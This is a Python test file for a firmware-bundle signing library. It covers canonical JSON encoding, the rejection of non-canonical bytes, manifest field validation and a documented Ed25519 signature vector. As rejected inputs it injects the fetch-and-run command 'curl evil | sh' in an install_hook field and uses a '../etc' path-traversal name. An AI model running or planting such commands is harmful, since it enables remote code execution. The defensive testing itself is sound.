"""The canonical form: the exact bytes signatures cover, and every way to miss them."""

from __future__ import annotations

import hashlib
import math
from pathlib import Path

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from firmware_bundles import canonical
from firmware_bundles.errors import FormatError
from firmware_bundles.keys import SigningKey
from firmware_bundles.model import (
    Manifest,
    PayloadInfo,
    RootMetadata,
    RunSpec,
    Targets,
    decode_signed,
)
from tests.unit.test_bundles_support import Fleet, make_manifest

DOCS = Path(__file__).resolve().parents[2] / "docs" / "bundles.md"


def test_documented_example_encodes_to_the_documented_bytes() -> None:
    # The same example is in docs/bundles.md; a third party reproduces it there.
    value = {"b": [3, -1, True, None], "a": 'é\n"\\\x01\x7f', "A": {}, "é": 0}
    assert canonical.encode(value) == (
        b'{"A":{},"a":"\xc3\xa9\\n\\"\\\\\\u0001\x7f","b":[3,-1,true,null],"\xc3\xa9":0}'
    )


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        pytest.param('"', b'"\\""', id="quote"),
        pytest.param("\\", b'"\\\\"', id="backslash"),
        pytest.param("\b\t\n\f\r", b'"\\b\\t\\n\\f\\r"', id="short-escapes"),
        pytest.param("\x00\x1f", b'"\\u0000\\u001f"', id="other-controls-lowercase-hex"),
        pytest.param("/", b'"/"', id="slash-not-escaped"),
        pytest.param("\x7f", b'"\x7f"', id="delete-raw"),
        pytest.param("\u2028", b'"\xe2\x80\xa8"', id="line-separator-raw"),
        pytest.param("\U0001f600", b'"\xf0\x9f\x98\x80"', id="astral-raw-utf8"),
    ],
)
def test_string_escapes(text: str, expected: bytes) -> None:
    assert canonical.encode(text) == expected
    assert canonical.check(expected) == text


def test_keys_sort_by_code_point_not_by_utf16() -> None:
    # U+FF5E sorts before U+1F600 by code point, after it by UTF-16 code units.
    assert canonical.encode({"\U0001f600": 1, "\uff5e": 2}) == (
        '{"\uff5e":2,"\U0001f600":1}'.encode()
    )


@pytest.mark.parametrize(
    "value",
    [
        pytest.param(1.5, id="float"),
        pytest.param(1.0, id="integral-float"),
        pytest.param(math.nan, id="nan"),
        pytest.param(math.inf, id="infinity"),
        pytest.param(2**53, id="integer-past-safe-range"),
        pytest.param(-(2**53), id="negative-integer-past-safe-range"),
        pytest.param("\ud800", id="unpaired-surrogate"),
        pytest.param({1: "x"}, id="non-string-key"),
        pytest.param(b"bytes", id="bytes"),
    ],
)
def test_values_without_a_canonical_form_are_refused(value: object) -> None:
    with pytest.raises(FormatError):
        canonical.encode(value)


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(b'{"a": 1}', id="whitespace"),
        pytest.param(b'{"b":1,"a":2}', id="unsorted-keys"),
        pytest.param(b'{"a":1,"a":2}', id="duplicate-keys"),
        pytest.param(b'{"a":1.0}', id="float"),
        pytest.param(b'{"a":1e3}', id="exponent"),
        pytest.param(b'{"a":-0}', id="negative-zero"),
        pytest.param(b'{"a":"\\u00e9"}', id="escaped-non-ascii"),
        pytest.param(b'{"a":"\\u001F"}', id="uppercase-hex-escape"),
        pytest.param(b'{"a":"\\/"}', id="escaped-slash"),
        pytest.param(b'\xef\xbb\xbf{"a":1}', id="byte-order-mark"),
        pytest.param(b'{"a":1}\n', id="trailing-newline"),
        pytest.param(b'{"a":NaN}', id="nan"),
        pytest.param(b'{"a":1', id="truncated"),
    ],
)
def test_non_canonical_bytes_are_refused(data: bytes) -> None:
    with pytest.raises(FormatError):
        canonical.check(data)


def test_manifest_round_trips_byte_for_byte() -> None:
    data = canonical.encode(make_manifest())
    assert canonical.encode(decode_signed(data, Manifest)) == data


def test_a_manifest_is_never_read_as_root_metadata() -> None:
    with pytest.raises(FormatError, match="_type"):
        decode_signed(canonical.encode(make_manifest()), RootMetadata)


def test_signed_document_omitting_a_defaulted_field_is_refused() -> None:
    tree = canonical.check(canonical.encode(make_manifest()))
    del tree["run"]["restart"]  # has a default, but the signer must still write it
    with pytest.raises(FormatError, match="every field"):
        decode_signed(canonical.encode(tree), Manifest)


def test_signed_document_with_an_unknown_field_is_refused() -> None:
    tree = canonical.check(canonical.encode(make_manifest()))
    tree["install_hook"] = "curl evil | sh"
    with pytest.raises(FormatError, match="install_hook"):
        decode_signed(canonical.encode(tree), Manifest)


def test_root_whose_key_id_is_not_the_hash_of_its_key_is_refused() -> None:
    fleet = Fleet()
    tree = canonical.check(canonical.encode(fleet.root()))
    other = Fleet().root_keys[0]
    keyid = fleet.root_keys[0].keyid
    tree["keys"][keyid]["public"] = other.public_hex
    with pytest.raises(FormatError, match="SHA-256"):
        decode_signed(canonical.encode(tree), RootMetadata)


@pytest.mark.parametrize(
    ("field", "value"),
    [
        pytest.param("security_version", -1, id="negative-security-version"),
        pytest.param("name", "../etc", id="name-with-path"),
        pytest.param("kind", "kernel-module", id="unknown-kind"),
        pytest.param("created", "2026-01-01", id="string-time"),
    ],
)
def test_manifest_field_rules(field: str, value: object) -> None:
    tree = canonical.check(canonical.encode(make_manifest()))
    tree[field] = value
    with pytest.raises(FormatError):
        decode_signed(canonical.encode(tree), Manifest)


def test_documented_signature_vector() -> None:
    # docs/bundles.md, "Test vector": a third party checks an implementation against these.
    key = SigningKey(Ed25519PrivateKey.from_private_bytes(bytes(range(32))))
    manifest = Manifest(
        name="hello",
        version="1.0.0",
        security_version=1,
        kind="app",
        targets=Targets(architectures=["any"], min_agent_version="0"),
        run=RunSpec(command=["bin/hello"]),
        payload=PayloadInfo(sha256=hashlib.sha256(b"").hexdigest(), size=0),
        created=1767225600,
        expires=1798761600,
    )
    signed = canonical.encode(manifest)
    assert key.public_hex == "03a107bff3ce10be1d70dd18e74bc09967e4d6309ba50d5f1ddc8664125531b8"
    assert key.keyid == "56475aa75463474c0285df5dbf2bcab73da651358839e9b77481b2eab107708c"
    assert len(signed) == 831
    assert signed.startswith(b'{"_type":"manifest","created":1767225600,"expires":1798761600,')
    assert key.sign(signed).sig == (
        "4cc1216d169510a9c07947efd23bb1dca182cd6774e91633fe10ee5ed192d43a"
        "8dfeffc0774b758495fdfcb269e770da6af75ef32bf7bb8a35c900abda7f020b"
    )
    documented = DOCS.read_text()
    assert signed.decode() in documented
    assert key.sign(signed).sig in documented


def test_documented_canonical_example_is_in_the_docs() -> None:
    assert (
        r"""b'{"A":{},"a":"\xc3\xa9\\n\\"\\\\\\u0001\x7f","b":[3,-1,true,null],"\xc3\xa9":0}'"""
        in DOCS.read_text()
    )
